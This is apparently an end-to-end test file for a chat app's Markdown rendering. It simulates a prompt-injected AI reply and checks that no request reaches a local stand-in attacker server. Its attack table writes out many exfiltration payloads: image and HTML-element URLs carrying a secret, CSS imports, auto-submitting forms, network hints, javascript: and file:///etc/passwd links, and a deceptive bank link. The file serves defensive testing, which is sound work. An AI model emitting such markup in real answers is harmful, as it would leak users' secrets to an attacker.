// Text that a prompt injection made the model write: it wants the page to request an address with a secret in
// it. A real server counts what arrives; a click at the end shows that it would have noticed.

import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { say } from "../../../chat/test/e2e/chat-chain.ts";
import { type ChatStage, openChatStage } from "./chat-stage.ts";

const requested: string[] = [];
let attacker: Server;
let stage: ChatStage;
/** An address of the attacker. */
let evil: (path: string) => string;
let attacks: Record<string, string>;

/** Ways to make a page load something from Markdown without a click. */
function writeAttacks(): Record<string, string> {
  const { host } = new URL(evil(""));
  return {
    images: `![x](${evil("inline?q=secret")}) ![x](<${evil("angle")}> "title") ![](//${host}/relative)`,
    "reference images": `![x][pixel] ![pixel]\n\n[pixel]: ${evil("reference?q=secret)")}`,
    "images in links": `[![x](${evil("nested")})](${evil("around")})`,
    "images in tables and lists": `| a |\n|---|\n| ![x](${evil("table")}) |\n\n- ![x](${evil("list")})\n\n> ![x](${evil("quote")})`,
    autolinks: `<${evil("auto")}> ${evil("bare")} www.${host}/www`,
    "HTML elements": [
      `<img src="${evil("img")}" srcset="${evil("srcset")} 2x">`,
      `<picture><source srcset="${evil("source")}"></picture>`,
      `<video src="${evil("video")}" poster="${evil("poster")}" autoplay></video>`,
      `<iframe src="${evil("iframe")}"></iframe><object data="${evil("object")}"></object>`,
      `<embed src="${evil("embed")}"><script src="${evil("script")}"></script>`,
      `<style>@import "${evil("import")}"; * { background: url(${evil("css")}) }</style>`,
      `<svg><image href="${evil("svg")}"/></svg><div style="background:url(${evil("style")})">x</div>`,
      `<form action="${evil("form")}"><input autofocus onfocus="this.form.submit()"></form>`,
      `<base href="${evil("base")}"><meta http-equiv="refresh" content="0;url=${evil("refresh")}">`,
    ].join("\n\n"),
    "hints for the network": ["prefetch", "preconnect", "dns-prefetch", "preload", "prerender"]
      .map((rel) => `<link rel="${rel}" href="${evil(rel)}" as="image">`)
      .join("\n\n"),
    "code with a language that is markup": `\`\`\`html\n<img src="${evil("code")}">\n\`\`\`\n\n\`\`\`mermaid\nclick A "${evil("mermaid")}"\n\`\`\``,
    "encoded addresses": `![x](&#104;ttp&#58;//${host}/entity) ![x](${evil("%2e%2e/percent")})`,
  };
}

beforeAll(async () => {
  attacker = createServer((request, response) => {
    requested.push(request.url ?? "");
    response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html>evil");
  });
  await once(attacker.listen(0, "127.0.0.1"), "listening");
  const { port } = attacker.address() as AddressInfo;
  // Chromium resolves every name below localhost to this machine.
  evil = (path) => `http://evil.localhost:${port}/${path}`;
  attacks = writeAttacks();
  const bank = evil("phish");
  stage = await openChatStage({
    script: {
      turns: [
        ...Object.entries(attacks).map(([name, text]) => ({
          when: { user: `^${name}$` },
          reply: [{ text: `${text}\n\nThe end of ${name}.` }],
        })),
        {
          when: { user: "schemes" },
          reply: [
            {
              text: "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:x) [d](file:///etc/passwd) [e](JaVaScRiPt:alert(1)) [f](blob:http://x/y) [g](&#106;avascript:alert(1)) [h](java\tscript:alert(1)) [i](intent://x) The end.",
            },
          ],
        },
        {
          when: { user: "deceptive" },
          reply: [
            {
              text: `[https://bank.example/login](${bank}) [bank](http://bank.example@${new URL(bank).host}/user) The end.`,
            },
          ],
        },
        {
          when: { user: "table" },
          reply: [
            {
              text: `${"| a ".repeat(40)}|\n${"|---".repeat(40)}|\n${`${"| b ".repeat(40)}|\n`.repeat(500)}\nThe end.`,
              chunk: 4000,
            },
          ],
        },
        { when: { user: "nesting" }, reply: [{ text: `${"> ".repeat(3000)}deep\n\nThe end.` }] },
      ],
    },
  });
});
afterAll(async () => {
  await stage?.close();
  attacker?.closeAllConnections();
  attacker?.close();
});

async function ask(text: string, end: string): Promise<void> {
  await stage.page.getByTestId("new-conversation").click();
  await say(stage.page as never, text);
  await stage.page.getByText(end).last().waitFor();
}

describe("Markdown of a prompt injection", () => {
  it.each([
    "images",
    "reference images",
    "images in links",
    "images in tables and lists",
    "autolinks",
    "HTML elements",
    "hints for the network",
    "code with a language that is markup",
    "encoded addresses",
  ])("requests nothing: %s", async (name) => {
    const { page } = stage;
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).host.startsWith("evil.")) elsewhere.push(request.url());
    });
    await ask(name, `The end of ${name}.`);
    // What a browser loads when a pointer is above a link.
    for (const link of await page.locator('[data-role="assistant"] a').all()) await link.hover();
    await page.waitForTimeout(300);
    expect(requested).toEqual([]);
    expect(elsewhere).toEqual([]);
    const loading =
      '[data-role="assistant"] :is(img,picture,video,iframe,object,embed,script,link,style,form,base,meta)';
    expect(await page.locator(loading).count()).toBe(0);
  });

  it("has no link with a scheme that runs or reads something", async () => {
    await ask("schemes", "The end.");
    const links = stage.page.locator('[data-role="assistant"] a');
    for (const link of await links.all()) {
      expect(await link.getAttribute("href")).toMatch(/^(https?|mailto):/);
    }
    expect(await links.count()).toBe(0);
  });

  it("shows the host of a link whose words name another one, and no link with a user name", async () => {
    await ask("deceptive", "The end.");
    const answer = stage.page.locator('[data-role="assistant"]').last();
    expect(await answer.textContent()).toContain(`(${new URL(evil("")).host})`);
    expect(await answer.locator("a").count()).toBe(1);
    expect(await answer.locator("a").getAttribute("rel")).toContain("noreferrer");
  });

  it.each(["table", "nesting"])("doesn't block the page: huge %s", async (name) => {
    const { page } = stage;
    await ask(name, "The end.");
    const begun = Date.now();
    await page.getByTestId("composer").fill("still here");
    expect(Date.now() - begun).toBeLessThan(2_000);
    await page.getByTestId("composer").fill("");
  });

  it("opens an address when the user clicks it, in a page that can't reach this one", async () => {
    const { page } = stage;
    await ask("autolinks", "The end of autolinks.");
    const [opened] = await Promise.all([
      page.context().waitForEvent("page"),
      page.locator('[data-role="assistant"] a').first().click(),
    ]);
    await opened.waitForLoadState();
    expect(requested.length).toBeGreaterThan(0);
    expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, ""]);
    await opened.close();
  });
});
